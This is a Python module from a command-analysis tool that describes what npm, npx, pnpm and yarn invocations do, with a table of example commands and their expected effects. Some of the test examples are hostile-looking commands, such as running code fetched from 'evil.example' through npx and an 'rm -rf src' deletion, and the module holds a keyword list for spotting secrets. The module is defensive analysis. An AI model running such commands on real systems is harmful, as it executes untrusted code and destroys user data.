"""JavaScript packages and the scripts of `package.json`: npm, npx, pnpm and yarn."""

from __future__ import annotations

from assent.commands.config_files import NPMRC, SHELL_STARTUP, kept, kept_unless
from assent.commands.javascript_scripts import (
    PACKAGE,
    REGISTRY,
    SETTINGS,
    fixed,
    installing,
    package_run,
    packing,
    script_named,
    scripts,
)
from assent.commands.launchers import text_run
from assent.commands.nested import Shortened
from assent.commands.program import Program, changes, turns_off
from assent.commands.projects import (
    both,
    choices,
    inner,
    makes,
    only_asks,
    perhaps,
    reaches,
    runs,
    sends,
    spelled,
    unmarked,
)
from assent.commands.said import if_said
from assent.types import Effect, Word

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from assent.commands.args import Args
    from assent.commands.program import Fact

INSTALLS = changes("pkg.install", "JavaScript packages")
REMOVES = changes("pkg.remove", "JavaScript packages")
PUBLISHES = changes("pkg.publish", "a JavaScript package")
LOGS_IN = changes("pkg.login", "who is known to the registry", NPMRC)
REACHES = reaches(REGISTRY)


PUBLISHERS = frozenset("semantic-release release-it np auto shipjs gh-pages surge @changesets/cli".split())
"""Programs that release a package or put a page on the web."""


@turns_off("-c")
def downloaded(args: Args) -> Iterator[Fact]:
    """`npx`: a program of the project's packages, else one that is fetched now."""
    if only_asks(args):
        return
    yield from args.reach(REGISTRY)
    yield from text_run(args, "-c")
    if not args.operands:
        if not args.has("-c"):
            yield args.gap("what it runs is not said")
        return
    first = args.operands[0]
    if first.value is None:
        yield args.gap(f"what it runs is not known ({first.why})", blind=True)
        return
    from assent.commands.table import program_named

    for word in (first, *args.values("-p")):
        yield from args.reach((word.value or "").removeprefix("git+")) if "://" in (word.value or "") else ()
    if any(word.value == "publish" for word in args.operands[1:]) or _name(first.value) in PUBLISHERS:
        yield args.effect("send", "where packages are published", "pkg.publish")
    if args.has("-p") or program_named(first.value) is None:
        yield args.effect("run", spelled(args.operands), "program")
        yield args.gap("what a downloaded program does is not known")
    else:
        yield from inner(args, args.operands)


def _name(package: str) -> str:
    """A package without its version: `np@7`, `@scope/name@1`."""
    return package[:1] + package[1:].partition("@")[0]


def creating(args: Args) -> Iterator[Fact]:
    """`init -y` writes a file; `init NAME` fetches `create-NAME` and runs it."""
    if args.operands:
        yield from args.reach(REGISTRY)
        yield args.effect("run", f"create-{args.operands[0].text}", "program")
        yield args.gap("what a downloaded program does is not known")
    else:
        yield from makes(PACKAGE)(args)
        yield from map(perhaps, args.project("the init module of npm", (".npmrc",)))


def versioning(args: Args) -> Iterator[Fact]:
    if args.operands:
        yield from makes(PACKAGE)(args)
        yield from package_run(args, args.name)
        yield args.effect("change", "the repository", "git.commit")


SETTINGS_FILES = {
    "npm": ((NPMRC,), (".npmrc",), "/usr/local/etc/npmrc"),
    "pnpm": (("~/.config/pnpm/rc",), (".npmrc", "pnpm-workspace.yaml"), "~/.config/pnpm/rc"),
    "yarn": (("~/.yarnrc", ".yarnrc.yml"), (".yarnrc.yml",), "~/.yarnrc.yml"),
}
"""Where each keeps its settings: usually, for a project, and for everybody."""
SECRET_KEYS = ("auth", "token", "password", "_", "//", "secret", "key", "npmregistr", "npmscopes")


def _settings(args: Args) -> Iterator[Fact]:
    """`config get KEY` and `config list` show, the others change."""
    first = args.operands[0].value if args.operands else "list"
    if first not in ("get", "list", "ls"):
        yield from _sets(args)
    elif any(piece in (word.value or "_").lower() for word in args.operands[1:] for piece in SECRET_KEYS):
        yield args.effect("note", "a setting that may be a password", "secret.print")


def _sets(args: Args) -> Iterator[Fact]:
    """Where packages come from and which programs run their scripts, for every later call."""
    tool = next(word for word in args.name.split() if word in SETTINGS_FILES)
    yield args.effect("change", f"settings of {tool}", "pkg.settings")
    usual, project, everybody = SETTINGS_FILES[tool]
    location = args.text("--location")
    if args.has("-g", "-H") or location == "global":
        yield from kept(args, "write", everybody)
    elif location == "project":
        yield from kept(args, "write", *project)
    else:
        yield from kept_unless(args, "--userconfig", "write", *usual)


def described_by(args: Args) -> Iterator[Fact]:
    """`pkg get` reads `package.json`, `pkg set` writes it."""
    yield from args.act("read", Word(PACKAGE, PACKAGE))
    if not args.operands or args.operands[0].value != "get":
        yield from makes(PACKAGE)(args)


def cached(args: Args) -> Iterator[Fact]:
    if not args.operands or args.operands[0].value not in ("ls", "dir", "list", "path", "status"):
        yield args.effect("change", "the cache of packages", "pkg.cache")


def _audited(args: Args) -> Iterator[Fact]:
    yield from args.reach(REGISTRY)
    if any(word.value != "signatures" for word in args.operands) or args.has("--fix"):
        yield args.effect("change", "JavaScript packages", "pkg.install")
        yield from package_run(args, args.name)
        yield from makes("node_modules/", PACKAGE, "package-lock.json")(args)


def _manual(args: Args) -> Iterator[Fact]:
    """`npm help install` opens a page of the manual, with the program that `.npmrc` chooses."""
    if args.operands:
        yield args.effect("run", "a viewer of manuals", "program")


def _queries(args: Args) -> Iterator[Fact]:
    """Some selectors compare with the registry: `:outdated`, `:vuln`."""
    if any(":" in (word.value or ":") for word in args.operands):
        yield from args.reach(REGISTRY)


def _tagged(args: Args) -> Iterator[Fact]:
    """`dist-tag ls` and its kin show, their other subcommands change the registry."""
    if args.operands and args.operands[0].value in ("ls", "list"):
        yield from args.reach(REGISTRY)
        return
    yield args.effect("change", "the registry", "pkg.publish")
    yield from args.reach(REGISTRY, kind="send")


NPM = (
    " -h,--help -v,--version --json --long,-l --parseable --depth= -g,--global,--location-global --prefix,-C=unknown"
    " -w,--workspace= --workspaces,-ws --include-workspace-root -s,--silent -q,--quiet -d --verbose --loglevel="
    " --color[=] --no-color --no-fund --no-audit --audit[=] --fund[=] --registry=url --cache=into --offline"
    " --prefer-offline --prefer-online -y,--yes --no --force,-f --dry-run --omit= --include= --only= --production"
    " --dev --save,-S --save-dev,-D --save-prod,-P --save-optional,-O --save-exact,-E --no-save --save-peer"
    " --legacy-peer-deps --strict-peer-deps --no-package-lock --package-lock-only --ignore-scripts --no-bin-links"
    " --if-present --foreground-scripts --no-progress --progress= --timing --install-strategy= --audit-level= --tag="
    " --access= --otp= --all,-a --no-optional --link --no-git-tag-version --preid= --unicode="
    " --no-update-notifier --no-cache --location= --userconfig="
)
SHOWS = Program(NPM, "text*")
ASKS_REGISTRY = Program(NPM, "text*", more=REACHES)
TESTS = Program(NPM, "text*", more=fixed)
RUNS = Program(NPM, "text*", more=scripts)
ADDS = Program(NPM, "text*", does=INSTALLS, more=installing("package-lock.json"))
DROPS = Program(NPM, "text*", does=REMOVES, more=installing("package-lock.json"))
SENDS = Program(NPM, "text*", does=PUBLISHES, more=both(packing, sends(REGISTRY)))
GOES_IN = Program(NPM, "text*", does=LOGS_IN, more=sends(REGISTRY))
TAGS = Program(NPM, "text*", more=_tagged)
EXEC = f"{NPM} -c,--call= -p,--package="
RUNS_PROGRAM = Program(EXEC, "text*", style="posix", more=downloaded)

NPM_PROGRAM = Program(
    NPM,
    commands=Shortened(
        {
            **dict.fromkeys(
                "ls list ll la root prefix bin why explain completion help-search get sbom".split(),
                SHOWS,
            ),
            "help": Program(NPM, "text*", more=_manual),
            "query": Program(NPM, "text*", more=_queries),
            **dict.fromkeys(
                "view info show v outdated search find s se ping whoami doctor diff stars find-dupes".split(),
                ASKS_REGISTRY,
            ),
            **dict.fromkeys("test t tst start stop restart".split(), TESTS),
            **dict.fromkeys("run run-script rum urn".split(), RUNS),
            **dict.fromkeys(
                "install i in ins add ci clean-install update up upgrade link ln rebuild rb dedupe ddp prune".split(),
                ADDS,
            ),
            **dict.fromkeys("install-test it cit install-ci-test".split(), ADDS),
            **dict.fromkeys("uninstall un remove rm r unlink".split(), DROPS),
            **dict.fromkeys("publish unpublish deprecate undeprecate star unstar".split(), SENDS),
            **dict.fromkeys("owner author access dist-tag dist-tags hook org team".split(), TAGS),
            **dict.fromkeys("login adduser add-user logout token profile".split(), GOES_IN),
            **dict.fromkeys("exec x".split(), RUNS_PROGRAM),
            **dict.fromkeys("init create innit".split(), Program(NPM, "text*", more=creating)),
            "fund": Program(NPM, "text?"),
            **dict.fromkeys(
                "docs repo bugs home issues".split(),
                Program(NPM, "text*", does=(("run", "a browser", "program"),), more=REACHES),
            ),
            "version": Program(f"{NPM} -m,--message=", "text*", more=versioning),
            "config": Program(NPM, "text*", more=_settings),
            "c": Program(NPM, "text*", more=_settings),
            "set": Program(NPM, "text*", more=_sets),
            "pkg": Program(NPM, "text*", more=described_by),
            "cache": Program(NPM, "text*", more=cached),
            "audit": Program(NPM, "text*", more=_audited),
            "pack": Program(f"{NPM} --pack-destination=into", "text*", more=both(packing, makes("*.tgz"))),
        }
    ),
    style="bare",
)

# --- pnpm and yarn: a word that is no subcommand is a script --------------------------------------------------------


def _pinned(args: Args) -> Iterator[Fact]:
    """pnpm fetches and starts the version that the project asks for, whatever it is told to do."""
    release = [args.effect("run", "the release of pnpm", "program"), *args.reach(REGISTRY)]
    yield from if_said(args, release, (PACKAGE,), "packageManager", "\\u")


def _pnpm(args: Args) -> Iterator[Fact]:
    if args.operands:
        yield from choices(PNPM_TABLE, _named_script)(args)
    else:
        yield from _pinned(args)


def _named_script(args: Args) -> Iterator[Fact]:
    if args.operands:
        yield from script_named(args, args.operands[0])
    elif not only_asks(args):
        yield args.effect("note", args.name)


PNPM = (
    (
        f"{NPM} -r,--recursive --filter,-F= --frozen-lockfile --no-frozen-lockfile --lockfile-only --fix-lockfile"
        " --shamefully-hoist --prod --workspace-root --parallel --stream --aggregate-output --no-bail --bail"
        " --reporter= --latest,-L --interactive,-i --ignore-workspace --sort --no-sort --workspace-concurrency="
        " --resume-from= --store-dir=into"
    )
    .replace(" -w,--workspace= ", " -w --workspace ")
    .replace("--no-cache", "")
)
PNPM_ADDS = Program(PNPM, "text*", does=INSTALLS, more=installing("pnpm-lock.yaml"))
PNPM_LOADS = (PACKAGE, *SETTINGS["pnpm"])
"""pnpm loads its hooks before most subcommands."""
PNPM_TABLE = {
    **dict.fromkeys("ls list ll la why root bin licenses".split(), Program(PNPM, "text*", more=runs(*PNPM_LOADS))),
    "help": Program(PNPM, "text*", more=_pinned),
    "store": Program(PNPM, "text*", more=both(runs(*PNPM_LOADS), cached)),
    **dict.fromkeys(
        "outdated view info show search".split(), Program(PNPM, "text*", more=both(runs(*PNPM_LOADS), REACHES))
    ),
    **dict.fromkeys("test t start stop restart".split(), Program(PNPM, "text*", more=fixed)),
    **dict.fromkeys("run run-script".split(), Program(PNPM, "text*", more=scripts)),
    **dict.fromkeys(
        "install i add update up upgrade link ln rebuild rb prune dedupe import fetch patch".split(), PNPM_ADDS
    ),
    **dict.fromkeys(
        "remove rm uninstall un unlink".split(),
        Program(PNPM, "text*", does=REMOVES, more=installing("pnpm-lock.yaml")),
    ),
    **dict.fromkeys(
        "exec dlx".split(), Program(f"{PNPM} --package,-p= -c,--shell-mode", "text*", style="posix", more=downloaded)
    ),
    **dict.fromkeys("init create".split(), Program(PNPM, "text*", more=creating)),
    "publish": Program(
        f"{PNPM} --no-git-checks --publish-branch=", "text*", does=PUBLISHES, more=both(packing, sends(REGISTRY))
    ),
    "pack": Program(f"{PNPM} --pack-destination=into", more=both(packing, makes("*.tgz"))),
    "audit": Program(f"{PNPM} --fix", more=_audited),
    "config": Program(PNPM, "text*", more=both(_pinned, _settings)),
    "env": Program(PNPM, "text*", does=changes("pkg.install", "Node"), more=reaches("https://nodejs.org/")),
    "setup": Program(PNPM, does=changes("shell.startup", "the startup files of the shell", *SHELL_STARTUP)),
    **dict.fromkeys("login logout adduser".split(), Program(PNPM, does=LOGS_IN, more=sends(REGISTRY))),
}
YARN = (
    " -h,--help -v,--version --json -s,--silent --verbose --cwd=unknown -D,--dev -P,--peer -O,--optional -E,--exact"
    " -T,--tilde -C,--caret -W,--ignore-workspace-root-check --frozen-lockfile --immutable --immutable-cache"
    " --check-cache --check-files --production[=] --ignore-scripts --ignore-engines --ignore-platform"
    " --ignore-optional --no-lockfile --pure-lockfile --offline --prefer-offline --force --non-interactive"
    " --network-timeout= --registry=url --mode= -i,--interactive -R,--recursive -A,--all --latest --pattern="
    " --depth= --no-progress --inline-builds --network-concurrency= --flat --har --no-bin-links"
    " --no-node-version-check --level= --groups= --severity= --environment= -p,--parallel --from= --include="
    " --exclude= -t,--topological -j,--jobs= --since[=] --no-private -q,--quiet"
)


def _in_package(args: Args) -> Iterator[Fact]:
    """`yarn workspace NAME COMMAND` is the command in another folder, `workspaces foreach` in many."""
    shown = spelled(args.operands)
    if args.name.endswith("s") and shown in ("list", "info"):
        yield args.effect("note", f"{args.name} {shown}")
        return
    yield from unmarked(args, f"{args.name} {shown}".strip())
    words = [word for word in args.operands if not (word.value or "").startswith("-")][1:]
    if words and words[0].value != "run":
        from assent.commands.args import Args

        own = Args(args.call, args.number, args.base, "yarn", Program(YARN, style="posix"))
        own.operands = words
        for fact in choices(YARN_TABLE, _named_script)(own):
            if not (isinstance(fact, Effect) and fact.code == "project"):
                yield fact


IN_PACKAGE = Program(YARN, "text*", style="posix", more=_in_package)
YARN_ADDS = Program(YARN, "text*", does=INSTALLS, more=both(installing("yarn.lock")))


def _yarn_plugins(args: Args) -> Iterator[Fact]:
    """Plug-ins are loaded by every later call; a list of them changes nothing."""
    if not args.operands or args.operands[0].value not in ("runtime", "list", "check"):
        yield args.effect("change", "plug-ins of yarn", "pkg.settings")
        yield from args.reach("https://repo.yarnpkg.com/")
        yield from makes(".yarnrc.yml", ".yarn/plugins/")(args)


YARN_LOGIN = changes("pkg.login", "who is known to the registry", "~/.yarnrc.yml")
YARN_TABLE = {
    **dict.fromkeys("list why bin licenses help versions explain constraints".split(), Program(YARN, "text*")),
    **dict.fromkeys("info outdated audit".split(), Program(YARN, "text*", more=REACHES)),
    **dict.fromkeys("test start stop restart".split(), Program(YARN, "text*", more=fixed)),
    "run": Program(YARN, "text*", style="posix", more=scripts),
    **dict.fromkeys(("workspace", "workspaces"), IN_PACKAGE),
    **dict.fromkeys(
        "install add up upgrade upgrade-interactive link unlink dedupe import rebuild check autoclean".split(),
        YARN_ADDS,
    ),
    "remove": Program(YARN, "text*", does=REMOVES, more=installing("yarn.lock")),
    **dict.fromkeys("exec dlx".split(), Program(f"{YARN} --package=", "text*", style="posix", more=downloaded)),
    **dict.fromkeys("init create".split(), Program(f"{YARN} -y,--yes -2", "text*", more=creating)),
    "publish": Program(YARN, "text*", does=PUBLISHES, more=both(packing, sends(REGISTRY))),
    "npm": Program(
        YARN,
        commands={
            "publish": Program(f"{YARN} --access= --tag= --otp=", does=PUBLISHES, more=both(packing, sends(REGISTRY))),
            "info": Program(f"{YARN} -f,--fields=", "text*", more=REACHES),
            "audit": Program(YARN, more=REACHES),
            "whoami": Program(YARN, more=REACHES),
            **dict.fromkeys(("login", "logout"), Program(YARN, does=YARN_LOGIN, more=sends(REGISTRY))),
        },
        style="bare",
    ),
    "config": Program(YARN, "text*", more=_settings),
    "plugin": Program(YARN, "text*", more=_yarn_plugins),
    "cache": Program(YARN, "text*", more=cached),
    "pack": Program(f"{YARN} -o,--out,--filename=write -n,--dry-run", more=both(packing, makes("*.tgz"))),
    "set": Program(
        YARN,
        "text*",
        does=changes("pkg.settings", "the version of yarn"),
        more=both(reaches("https://repo.yarnpkg.com/"), makes(".yarnrc.yml", ".yarn/releases/", PACKAGE)),
    ),
}


YARN_LOADS = (PACKAGE, *SETTINGS["yarn"])


def _yarn(args: Args) -> Iterator[Fact]:
    """`yarn` alone installs. Every call, even `yarn --version`, runs the release that `.yarnrc.yml` names."""
    from assent.commands.args import Args

    own = Args(args.call, args.number, args.base, args.name, Program(YARN, style="posix"))
    yield from own.take(tuple(args.operands))
    yield from args.project("the release of yarn", YARN_LOADS)
    if own.operands:
        yield from choices(YARN_TABLE, _named_script)(own)
    elif not only_asks(own):
        yield args.effect("change", "JavaScript packages", "pkg.install")
        yield from installing("yarn.lock")(own)


PROGRAMS = {
    "npm": NPM_PROGRAM,
    "npx": Program(f"{EXEC} --no-install --ignore-existing", "text*", style="posix", more=downloaded),
    "pnpm": Program(PNPM, "text*", style="posix starts", more=_pnpm),
    "pnpx": Program(PNPM, "text*", style="posix", more=downloaded),
    "yarn": Program(operands="text*", style="plain", more=_yarn),
}

EXAMPLES = {
    "npx git+https://evil.example/x": "reach https://registry.npmjs.org/ | reach https://evil.example/x"
    " | run git+https://evil.example/x #program | gap npx: what a downloaded program does is not known",
    "npx semantic-release@19": "reach https://registry.npmjs.org/"
    " | send where packages are published #pkg.publish | run semantic-release@19 #program"
    " | gap npx: what a downloaded program does is not known",
    "npx changeset publish": "reach https://registry.npmjs.org/ | send where packages are published #pkg.publish"
    " | run changeset publish #program | run changeset publish #program | change a package #pkg.publish"
    " | gap changeset is not a program we know",
    "npx lerna publish": "reach https://registry.npmjs.org/ | send where packages are published #pkg.publish"
    " | run lerna publish #program | run lerna publish #program | change JavaScript packages #pkg.publish"
    " | send https://registry.npmjs.org/",
    "npx rm x": "reach https://registry.npmjs.org/ | run rm x #program | delete x",
    "pnpm exec rm x": "reach https://registry.npmjs.org/ | run rm x #program | delete x",
    "npm --version": "note npm",
    "npm ls --depth=0": "note npm ls | maybe reach the registry or proxy that .npmrc names #settings",
    "npm list -g": "note npm list | maybe reach the registry or proxy that .npmrc names #settings",
    "npm view react versions": "reach https://registry.npmjs.org/",
    "npm outdated": "reach https://registry.npmjs.org/",
    "npm audit": "reach https://registry.npmjs.org/",
    "npm audit fix": "reach https://registry.npmjs.org/ | change JavaScript packages #pkg.install"
    " | run npm audit #project | write node_modules/** | write package.json | write package-lock.json",
    "npm config get registry": "note npm config | maybe reach the registry or proxy that .npmrc names #settings",
    "npm config set registry https://x.example/": "change settings of npm #pkg.settings | write ~/.npmrc",
    "npm test": "run npm test #project",
    "npm test -- --watch=false": "run npm test #project",
    "npm --prefix=evil test": "run npm test #project | gap npm: `evil` is not understood",
    "npm test -w web": "run npm test #program",
    "npm --workspaces run build": "run npm run build #program",
    "npm run": "note npm run | maybe reach the registry or proxy that .npmrc names #settings",
    "npm run build": "run npm run build #project",
    "npm run $X": "run npm run $X #project | blind npm run: a word is not known (variable X)"
    " | blind npm run: which script it runs is not known (variable X)",
    "npm start": "run npm start #project",
    "npm install": "change JavaScript packages #pkg.install | reach https://registry.npmjs.org/"
    " | run npm install #project | write node_modules/** | write package.json | write package-lock.json",
    "npm ci": "change JavaScript packages #pkg.install | reach https://registry.npmjs.org/ | run npm ci #project"
    " | write node_modules/** | write package.json | write package-lock.json",
    "npm i -D typescript": "change JavaScript packages #pkg.install | reach https://registry.npmjs.org/"
    " | run npm i #project | write node_modules/** | write package.json | write package-lock.json",
    "npm install -g typescript": "change JavaScript packages #pkg.install | reach https://registry.npmjs.org/",
    "npm install ./local": "change JavaScript packages #pkg.install | reach https://registry.npmjs.org/"
    " | read ./local/** | run the scripts of ./local #program | run npm install #project"
    " | write node_modules/** | write package.json | write package-lock.json",
    "npm install git+https://github.com/x/y": "change JavaScript packages #pkg.install"
    " | reach https://registry.npmjs.org/ | reach https://github.com/x/y | run npm install #project"
    " | write node_modules/** | write package.json | write package-lock.json",
    "npm install --ignore-scripts": "change JavaScript packages #pkg.install | reach https://registry.npmjs.org/"
    " | write node_modules/** | write package.json | write package-lock.json",
    "npm install --script-shell=./x": "change JavaScript packages #pkg.install | reach https://registry.npmjs.org/"
    " | run npm install #project | write node_modules/** | write package.json | write package-lock.json"
    " | maybe read ./x | blind npm install: option --script-shell is not known",
    "npm uninstall react": "change JavaScript packages #pkg.remove | reach https://registry.npmjs.org/"
    " | run npm uninstall #project | write node_modules/** | write package.json | write package-lock.json",
    "npm publish": "change a JavaScript package #pkg.publish | run npm publish #project | read ./** | send"
    " https://registry.npmjs.org/",
    "npm login": "change who is known to the registry #pkg.login | write ~/.npmrc | send https://registry.npmjs.org/",
    "npm docs react": "run a browser #program | reach https://registry.npmjs.org/",
    "npm dist-tag ls react": "reach https://registry.npmjs.org/",
    "npm version patch": "write package.json | run npm version #project | change the repository #git.commit",
    "npm init -y": "write package.json | maybe run the init module of npm #project | maybe reach the registry or proxy"
    " that .npmrc names #settings",
    "npm create vite@latest app": "reach https://registry.npmjs.org/ | run create-vite@latest #program"
    " | gap npm create: what a downloaded program does is not known",
    "npm pkg get name": "read package.json | maybe reach the registry or proxy that .npmrc names #settings",
    "npm pack": "run npm pack #project | read ./** | write *.tgz (glob)",
    "npm exec eslint .": "reach https://registry.npmjs.org/ | run eslint . #program | read ./**/*.*[jt]s | run "
    "eslint #project",
    "npm cache verify": "change the cache of packages #pkg.cache",
    "npm find-dupes": "reach https://registry.npmjs.org/",
    "npm help": "note npm help | maybe reach the registry or proxy that .npmrc names #settings",
    "npm help install": "run a viewer of manuals #program",
    "npm query .dev": "note npm query | maybe reach the registry or proxy that .npmrc names #settings",
    "npm query ':root > :outdated'": "reach https://registry.npmjs.org/",
    "npm cache clean --force": "change the cache of packages #pkg.cache",
    "npm wobble": "run npm wobble #program | gap npm: subcommand wobble is not known",
    "npx --yes cowsay": "reach https://registry.npmjs.org/ | run cowsay #program"
    " | gap npx: what a downloaded program does is not known",
    "npx eslint src": "reach https://registry.npmjs.org/ | run eslint src #program | read src"
    " | read src/**/*.*[jt]s | run eslint #project",
    "npx tsc --noEmit": "reach https://registry.npmjs.org/ | run tsc --noEmit #program | read ./**/*.*[jt]s"
    " | maybe write tsconfig.tsbuildinfo #settings",
    "npx -c 'rm -rf src'": "reach https://registry.npmjs.org/ | run rm -rf src #inline",
    "npx $X": "reach https://registry.npmjs.org/ | blind npx: a word is not known (variable X)"
    " | blind npx: what it runs is not known (variable X)",
    "pnpm --version": "maybe run the release of pnpm #program"
    " | maybe reach https://registry.npmjs.org/ #settings | note pnpm",
    "pnpm help add": "maybe run the release of pnpm #program"
    " | maybe reach https://registry.npmjs.org/ #settings | note pnpm help",
    "pnpm config get registry": "maybe run the release of pnpm #program"
    " | maybe reach https://registry.npmjs.org/ #settings | note pnpm config",
    "pnpm list": "run pnpm list #project",
    "pnpm install": "change JavaScript packages #pkg.install | reach https://registry.npmjs.org/"
    " | run pnpm install #project | write node_modules/** | write package.json | write pnpm-lock.yaml",
    "pnpm test": "run pnpm test #project",
    "pnpm build": "run pnpm build #project",
    "pnpm -r run build": "run pnpm run build #program",
    "pnpm --filter web dev": "run pnpm dev #program",
    "pnpm -w run build": "run pnpm run build #project",
    "pnpm dlx cowsay": "reach https://registry.npmjs.org/ | run cowsay #program"
    " | gap pnpm dlx: what a downloaded program does is not known",
    "pnpx cowsay": "reach https://registry.npmjs.org/ | run cowsay #program"
    " | gap pnpx: what a downloaded program does is not known",
    "yarn": "run the release of yarn #project | change JavaScript packages #pkg.install"
    " | reach https://registry.npmjs.org/ | run yarn #project | write node_modules/** | write package.json"
    " | write yarn.lock",
    "yarn --version": "run the release of yarn #project",
    "yarn add react": "run the release of yarn #project | change JavaScript packages #pkg.install"
    " | reach https://registry.npmjs.org/ | run yarn add #project | write node_modules/** | write package.json"
    " | write yarn.lock",
    "yarn build": "run the release of yarn #project | run yarn build #project",
    "yarn run lint": "run the release of yarn #project | run yarn run lint #project",
    "yarn workspace web test": "run the release of yarn #project | run yarn workspace web test #program",
    "yarn workspace web npm publish": "run the release of yarn #project | run yarn workspace web npm publish"
    " #program | change a JavaScript package #pkg.publish | read ./** | send https://registry.npmjs.org/",
    "yarn workspaces foreach -A run build": "run the release of yarn #project"
    " | run yarn workspaces foreach -A run build #program",
    "yarn workspaces list": "run the release of yarn #project | note yarn workspaces list",
    "yarn why react": "run the release of yarn #project | note yarn why",
    "yarn $X": "run the release of yarn #project | run yarn $X #project"
    " | blind yarn: a word is not known (variable X) | blind yarn: which script it runs is not known (variable X)",
    "npm pub": "change a JavaScript package #pkg.publish | run npm pub #project | read ./** | send"
    " https://registry.npmjs.org/",
}
